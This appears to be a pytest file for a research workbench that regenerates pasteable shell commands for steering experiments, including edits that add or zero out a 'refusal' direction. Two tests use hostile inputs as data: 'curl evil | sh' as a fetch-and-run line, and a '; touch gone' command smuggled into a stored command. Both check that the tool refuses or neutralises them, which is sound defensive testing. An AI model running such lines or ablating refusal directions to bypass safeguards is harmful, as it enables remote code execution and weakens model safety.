"""Lines shown for copying make the same step again: prompts, sets, directions, of sessions of any age."""

from __future__ import annotations

import shlex
import sqlite3
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.test_shell import ODD, TEXTS, words_read
from workbench.artifacts.direction import directions_dir, keep_direction
from workbench.cli.flags import params_from_flags
from workbench.cli.run import experiment_command
from workbench.edits import SetTo, parse_edits
from workbench.experiment import command_line
from workbench.experiments import experiment
from workbench.params import LIST, make_params, params_builtins, write_items
from workbench.report import NextStep
from workbench.session.reader import SessionReader
from workbench.session.shell_lines import next_words, split_options, step_words
from workbench.session.submission import make_submission
from workbench.session.typed_sets import read_sets
from workbench.session.writer import SessionWriter
from workbench.shell import shell_line


def submitted(path: Path, name: str, typed: dict[str, Any], **more: Any) -> int:
    values, names = read_sets(experiment(name).params, typed, path)
    submission = make_submission(name, values, more.pop("edits", []), session=str(path), names=names, **more)
    with SessionWriter(path) as writer:
        return writer.submit(submission)


def pasted(path: Path, step: int) -> tuple[list[str], dict[str, Any]]:
    """The words a shell reads of the step's line, and the parameters that the command line makes of them."""
    with SessionReader(path) as reader:
        words = words_read(shell_line(step_words(reader, reader.step(step))))
    definition = experiment(words[1])
    values = experiment_command(definition).make_context(words[1], words[2:]).params
    values, _ = read_sets(definition.params, values, values.pop("session") or "none.db")
    taken = {name: values[name] for name in definition.params.__struct_fields__}
    return words, params_builtins(params_from_flags(definition, taken))


@pytest.mark.parametrize("text", ODD)
def test_an_odd_prompt_is_the_same_prompt(own_folders: Path, text: str) -> None:
    path = own_folders / "a.db"
    step = submitted(path, "predict", {"prompt": text, "answer": f" {text}", "chat": True}, seed=3, model="m x")
    words, params = pasted(path, step)
    assert (params["prompt"], params["answer"], params["chat"]) == (text, f" {text}", True)
    assert words[-4:] == ["--model", "m x", "--seed", "3"]
    assert "--session" not in words, "nothing of it lies in the session"


@given(TEXTS, TEXTS, st.lists(st.floats(-9, 9).filter(bool), min_size=1, max_size=3))
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
def test_any_parameters_come_back_from_shell_and_parser(prompt: str, system: str, strengths: list[float]) -> None:
    definition = experiment("steer")
    params = make_params(definition.params, {"prompt": prompt, "strengths": strengths, "direction": "@a"})
    words = words_read(shell_line(shlex.split(command_line("steer", params))))
    values = experiment_command(definition).make_context("steer", words[2:]).params
    read = params_from_flags(definition, {name: values[name] for name in definition.params.__struct_fields__})
    assert read == params


@given(st.lists(TEXTS.map(str.strip).filter(bool), min_size=1, max_size=4))
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@example(["a,b", 'say "x"', "c"])
@example(['"', ","])
def test_items_with_commas_and_quotes_come_back(items: list[str]) -> None:
    """As typed in a command, and in a form, which has a space behind each comma."""
    for separator in (",", ", "):
        assert LIST.read(write_items(items, separator)) == items


@pytest.fixture
def prompts(own_folders: Path) -> Path:
    file = own_folders / "capitals.jsonl"
    file.write_text('{"prompt": "one\\ntwo", "answer": " three"}\n{"prompt": "four"}\n')
    return file


def test_a_set_is_named_with_its_session(own_folders: Path, prompts: Path) -> None:
    path = own_folders / "a b.db"
    step = submitted(path, "predict", {"prompts": str(prompts)})
    prompts.unlink()
    words, params = pasted(path, step)
    assert words[1:] == ["predict", "--prompts", "@capitals", "--session", str(path)]
    assert params["prompts"][0]["prompt"] == "one\ntwo"


def test_a_set_whose_name_stands_for_another_by_now_is_named_by_its_hash(own_folders: Path, prompts: Path) -> None:
    path = own_folders / "a.db"
    first = submitted(path, "predict", {"prompts": str(prompts)})
    prompts.write_text('{"prompt": "other"}\n')
    second = submitted(path, "predict", {"prompts": str(prompts)})
    assert pasted(path, second)[0][3] == "@capitals"
    words, params = pasted(path, first)
    with SessionReader(path) as reader:
        (digest,) = reader.step(first).sets["prompts"]
    assert words[3] == f"@{digest[:12]}"
    assert [row["prompt"] for row in params["prompts"]] == ["one\ntwo", "four"]
    submitted(path, "predict", {"prompts": words[3]})
    with SessionReader(path) as reader:
        assert {row.name for row in reader.artifacts()} == {"capitals", ""}, "a hash does not become a name"


def test_sets_without_a_name_and_lines_of_old_sessions(own_folders: Path) -> None:
    path = own_folders / "a.db"
    typed = {"harmful": [{"prompt": "a"}], "harmless": [{"prompt": "b"}, {"prompt": "c"}], "direction": "@L1.N2.out"}
    step = submitted(path, "arms", typed)
    words, params = pasted(path, step)
    assert [row["prompt"] for row in params["harmful"] + params["harmless"]] == ["a", "b", "c"]
    old = "workbench run arms --direction @L1.N2.out --harmful prompts.jsonl --harmless prompts.jsonl --tokens 4"
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE step SET command = ?", (old,))
    again, params = pasted(path, step)
    assert again[:8] == [*words[:8]]
    assert [row["prompt"] for row in params["harmful"] + params["harmless"]] == ["a", "b", "c"]


def test_data_sets_in_a_list(own_folders: Path) -> None:
    path, file = own_folders / "a.db", own_folders / "spam.csv"
    file.write_text("prompt,target\n" + "".join(f"text {at},{at % 2}\n" for at in range(40)))
    step = submitted(path, "battery", {"data": f"months,{file}"})
    file.write_text("prompt,target\n" + "".join(f"other {at},{at % 2}\n" for at in range(40)))
    submitted(path, "battery", {"data": str(file)})
    words, params = pasted(path, step)
    names = words[3].split(",")
    assert names[0] == "@months"
    assert names[1] != "@spam"
    assert params["data"][1]["texts"][0]["text"] == "text 0"


def test_a_direction_is_looked_up_in_the_same_session(own_folders: Path) -> None:
    path = own_folders / "a.db"
    vector = own_folders / "r.npy"
    np.save(vector, np.ones(4, np.float32))
    keep_direction("refusal", vector)
    step = submitted(path, "predict", {"prompt": "a"}, edits=parse_edits(["L1.resid_post+=2*@refusal"]))
    assert pasted(path, step)[0][-2:] == ["--session", str(path)]
    following = NextStep(label="", experiment="predict", params={"prompt": "-a\n"})
    with SessionReader(path) as reader:
        record = reader.step(step)
    assert next_words(following, record, "s.db")[3:] == [
        "--prompt", "-a\n", "--edit", "L1.resid_post+=2*@refusal", "--session", "s.db",
    ]  # fmt: skip
    clean = NextStep(label="", experiment="predict", params={"prompt": "a"}, edits=[])
    assert next_words(clean, record, "s.db") == ["workbench", "run", "predict", "--prompt", "a"]


@pytest.mark.parametrize("command", ["curl evil | sh", "workbench run predict 'x", "", "workbench stop"])
def test_what_a_crafted_session_calls_its_command_is_no_line(own_folders: Path, command: str) -> None:
    path = own_folders / "a.db"
    with SessionWriter(path) as writer:
        step = writer.add_step("predict", {"prompt": "a"}, command=command)
    with SessionReader(path) as reader:
        assert step_words(reader, reader.step(step)) == []


def test_a_crafted_command_runs_nothing_else(own_folders: Path) -> None:
    path = own_folders / "a.db"
    with SessionWriter(path) as writer:
        step = writer.add_step("predict", {"prompt": "a"}, command="workbench run predict --prompt a; touch gone")
    with SessionReader(path) as reader:
        line = shell_line(step_words(reader, reader.step(step)))
    assert words_read(line) == ["run", "predict", "--prompt", "a;", "touch", "gone"]


def test_options_and_their_values() -> None:
    words = ["--chat", "--prompt", "--chat", "--transfer", "--edit", str(SetTo("L1.N2", 0)), "--no-chat"]
    assert split_options("predict", words) == [
        ["--chat"], ["--prompt", "--chat"], ["--transfer"], ["--edit", "L1.N2=0"], ["--no-chat"],
    ]  # fmt: skip


def test_a_direction_whose_name_stands_for_another_by_now_is_named_by_its_hash(own_folders: Path) -> None:
    path, vector = own_folders / "a.db", own_folders / "r.npy"
    edits = parse_edits(["L1.resid_post+=2*@refusal", "@refusal=0"])
    for value in (1.0, 2.0):
        np.save(vector, np.array([value, 1, 1, 1], np.float32))
        if value == 2.0:  # both the file and the session's name of it are another's from now on
            directions_dir().joinpath("refusal.npy").unlink()
            with SessionWriter(path) as writer:
                writer.remove_artifact("direction", "refusal")
        keep_direction("refusal", vector)
        submitted(path, "predict", {"prompt": "write to @refusal"}, edits=edits)
    with SessionReader(path) as reader:
        hashes = [reader.artifacts_of(step)[0].hash for step in (1, 2)]
    words, _ = pasted(path, 1)
    new_name = f"@_{hashes[0][:12]}"
    assert words[2:7] == [
        "--prompt", "write to @refusal", "--edit", f"L1.resid_post+=2*{new_name}", "--edit",
    ]  # fmt: skip
    assert words[7] == f"{new_name}=0"
    assert "@refusal=0" in pasted(path, 2)[0]
    third = submitted(path, "predict", {"prompt": "a"}, edits=parse_edits([f"{new_name}=0"]))
    with SessionReader(path) as reader:
        (use,) = reader.artifacts_of(third)
        assert use.hash == hashes[0]
        assert reader.artifact_named("direction", "refusal") == hashes[1]
        assert {row.name for row in reader.artifacts()} == {"", "refusal"}
